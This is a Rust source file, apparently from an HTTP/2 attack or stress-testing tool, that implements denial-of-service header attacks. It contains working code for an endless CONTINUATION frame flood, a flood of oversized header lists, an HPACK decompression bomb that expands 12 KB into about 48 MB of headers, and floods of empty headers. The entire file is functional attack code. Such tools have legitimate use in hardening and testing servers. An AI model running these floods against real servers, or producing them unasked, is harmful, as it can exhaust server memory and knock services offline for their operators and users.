//! Header blocks that never end, or that are far larger than they look.

use super::{
    Talk, frame,
    hpack::{Block, NEWEST},
};
use std::io;

/// Bytes of a table entry that all references of a bomb point at: the default table holds 4,096 with
/// 32 of overhead (RFC 7541, section 4.1).
const ENTRY: usize = 4_000;

/// One HEADERS without `END_HEADERS`, then CONTINUATION for ever.
pub async fn continuation(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let stream = talk.stream();
    let begin = frame::frame(frame::HEADERS, frame::END_STREAM, stream, &talk.get().0);
    talk.say(&begin).await?;
    let filler = if talk.context.attack.variant() == "empty" {
        Vec::new()
    } else {
        Block::default().literal(b"x", &[b'a'; 1000]).0
    };
    let next = frame::frame(frame::CONTINUATION, 0, stream, &filler);
    talk.flood(|_| next.clone()).await
}

/// Complete requests with 256 KiB of headers each.
pub async fn huge_list(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let mut block = talk.get();
    for number in 0..64 {
        let name = format!("x-{number}");
        block = block.literal(name.as_bytes(), &[b'a'; 4_096]);
    }
    talk.flood(|talk| frame::long_headers(talk.stream(), &block.0, true))
        .await
}

/// One entry put into the table, then 12,000 references to it, a byte each: 48 MB of headers in 12 KB.
pub async fn bomb(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let mut seeded = false;
    let get = talk.get();
    let seed = get.clone().kept(b"x", &[b'a'; ENTRY]).0;
    let mut bomb = get;
    for _ in 0..12_000 {
        bomb = bomb.indexed(NEWEST);
    }
    talk.flood(|talk| {
        let stream = talk.stream();
        if seeded {
            return frame::headers(stream, &bomb.0, true);
        }
        seeded = true;
        frame::headers(stream, &seed, true)
    })
    .await
}

/// Headers without a name; or header blocks without anything.
pub async fn empty(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let mut block = talk.get();
    for _ in 0..1_000 {
        block = block.literal(b"", b"");
    }
    if talk.context.attack.variant() == "blocks" {
        block = Block::default();
    }
    talk.flood(|talk| frame::headers(talk.stream(), &block.0, true))
        .await
}
